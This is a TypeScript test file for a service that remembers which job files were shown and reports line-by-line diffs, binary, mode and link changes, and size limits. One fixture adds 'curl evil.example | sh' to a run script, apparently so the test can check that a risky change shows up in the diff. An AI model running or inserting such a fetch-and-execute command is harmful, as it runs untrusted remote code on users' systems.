import { describe, expect, it } from 'vitest';
import type { Job } from '../../main/core/jobs/job.ts';
import { jobFrom } from '../../main/core/jobs/job.ts';
import { createShownTexts } from '../../main/service/shown-texts.ts';
import type { Digest } from '../../shared/terms/ids.ts';
import { fileEntry, NOW, placeOf, type Wish } from '../build/jobs.ts';
import { memoryDisk } from '../build/memory-disk.ts';

function world() {
  const disk = memoryDisk();
  const asked: string[] = [];
  const readFile = disk.source.readFile;
  const shown = createShownTexts({
    ...disk.source,
    readFile: (place, path, limit) => {
      asked.push(path);
      return readFile(place, path, limit);
    },
  });
  const put = (wish: Wish): Job => jobFrom(disk.put(wish), NOW);
  return { disk, shown, put, asked };
}

const digestOf = (job: Job) => job.facts.digest as Digest;
const BEFORE = { 'run.sh': 'set -e\npython main.py\n', 'code/main.py': 'print(1)\n' };

describe('what was shown', () => {
  it('says line by line how the job differs now', async () => {
    const { shown, put } = world();
    const before = put({ files: BEFORE });
    await shown.remember(before);
    const now = put({
      files: { 'run.sh': 'set -e\ncurl evil.example | sh\npython main.py\n', 'code/new.py': 'print(2)\n' },
    });
    expect(await shown.changesSince(digestOf(before), now)).toEqual([
      {
        path: 'code/main.py',
        change: 'removed',
        hunks: [{ before: 1, after: 1, lines: ['-print(1)'] }],
      },
      { path: 'code/new.py', change: 'added', hunks: [{ before: 1, after: 1, lines: ['+print(2)'] }] },
      {
        path: 'run.sh',
        change: 'content',
        hunks: [{ before: 1, after: 1, lines: [' set -e', '+curl evil.example | sh', ' python main.py'] }],
      },
    ]);
  });

  it('finds nothing to say about the same bytes', async () => {
    const { shown, put } = world();
    const job = put({ files: BEFORE });
    await shown.remember(job);
    expect(await shown.changesSince(digestOf(job), job)).toEqual([]);
  });

  it('is not remembered unless it was shown', async () => {
    const { shown, put } = world();
    const job = put({ files: BEFORE });
    expect(await shown.changesSince(digestOf(job), job)).toBeNull();
  });

  it('is not remembered for a job beyond the limits, which has no digest', async () => {
    const { shown, put, asked } = world();
    await shown.remember(put({ files: BEFORE, digest: null }));
    expect(asked).toEqual([]);
  });

  it('shows that a byte order mark was put before the text', async () => {
    const { shown, put } = world();
    const before = put({ files: BEFORE });
    await shown.remember(before);
    const now = put({ files: { ...BEFORE, 'code/main.py': '\uFEFFprint(1)\n' } });
    expect(await shown.changesSince(digestOf(before), now)).toEqual([
      {
        path: 'code/main.py',
        change: 'content',
        hunks: [{ before: 1, after: 1, lines: ['-print(1)', '+\uFEFFprint(1)'] }],
      },
    ]);
  });

  it('keeps the jobs that were shown last, counting every time they are shown', async () => {
    const { shown, put } = world();
    const jobs = Array.from({ length: 17 }, (_, number) =>
      put({ place: placeOf(`job ${number}`), files: { 'run.sh': `echo ${number}\n` } }),
    );
    const [first, second, ...rest] = jobs as [Job, Job, ...Job[]];
    await shown.remember(first);
    await shown.remember(second);
    for (const job of rest.slice(0, -1)) await shown.remember(job);
    await shown.remember(first);
    await shown.remember(rest.at(-1) as Job);
    expect(await shown.changesSince(digestOf(first), first)).toEqual([]);
    expect(await shown.changesSince(digestOf(second), second)).toBeNull();
  });

  it('says only that something changed where there is no text to compare', async () => {
    const { disk, shown } = world();
    const facts = disk.put({ files: BEFORE });
    const binary = fileEntry('code/main.py', 'x', { text: 'binary' });
    const link = fileEntry('run.sh', 'y', { kind: 'link', text: 'none' });
    const entries = facts.entries.map((one) => (one.path === 'code/main.py' ? binary : one));
    const before = jobFrom(facts, NOW);
    await shown.remember(before);
    const now = jobFrom(
      { ...facts, entries: entries.map((one) => (one.path === 'run.sh' ? link : one)) },
      NOW,
    );
    expect(await shown.changesSince(digestOf(before), now)).toEqual([
      { path: 'code/main.py', change: 'content', hunks: null },
      { path: 'run.sh', change: 'kind', hunks: null },
    ]);
  });

  it('says when only the mode changed', async () => {
    const { disk, shown } = world();
    const facts = disk.put({ files: BEFORE });
    const before = jobFrom(facts, NOW);
    await shown.remember(before);
    const entries = facts.entries.map((one) =>
      one.path === 'code/main.py' ? { ...one, executable: true } : one,
    );
    expect(await shown.changesSince(digestOf(before), jobFrom({ ...facts, entries }, NOW))).toEqual([
      { path: 'code/main.py', change: 'mode', hunks: null },
    ]);
  });

  it('compares no text that moved on between hashing and reading', async () => {
    const { disk, shown, put } = world();
    const before = put({ files: BEFORE });
    disk.put({ files: { ...BEFORE, 'run.sh': 'later\n' } });
    await shown.remember(before);
    const now = put({ files: { ...BEFORE, 'run.sh': 'later\n' } });
    expect(await shown.changesSince(digestOf(before), now)).toEqual([
      { path: 'run.sh', change: 'content', hunks: null },
    ]);
  });

  it('keeps at most two megabytes of text a job, and small files after a large one', async () => {
    const { shown, put, asked } = world();
    const before = put({
      files: { 'a.txt': 'a'.repeat(1_500_000), 'b.txt': 'b'.repeat(600_000), 'run.sh': 'echo\n' },
    });
    await shown.remember(before);
    expect(asked).toEqual(['a.txt', 'run.sh', 'config.yaml']);
    const now = put({
      files: { 'a.txt': 'a'.repeat(1_500_000), 'b.txt': 'c', 'run.sh': 'echo 2\n' },
    });
    expect(await shown.changesSince(digestOf(before), now)).toMatchObject([
      { path: 'b.txt', hunks: null },
      { path: 'run.sh', hunks: [{ lines: ['-echo', '+echo 2'] }] },
    ]);
  });

  it('compares at most two megabytes of newer text in one answer', async () => {
    const { shown, put } = world();
    const names = ['a.txt', 'b.txt', 'c.txt', 'd.txt'];
    const files = (text: string) => Object.fromEntries(names.map((name) => [name, text]));
    const before = put({ files: files('short\n') });
    await shown.remember(before);
    const changes = await shown.changesSince(digestOf(before), put({ files: files('x'.repeat(900_000)) }));
    expect(changes?.map((one) => [one.path, one.change, one.hunks !== null])).toEqual([
      ['a.txt', 'content', true],
      ['b.txt', 'content', true],
      ['c.txt', 'content', false],
      ['d.txt', 'content', false],
    ]);
  });
});
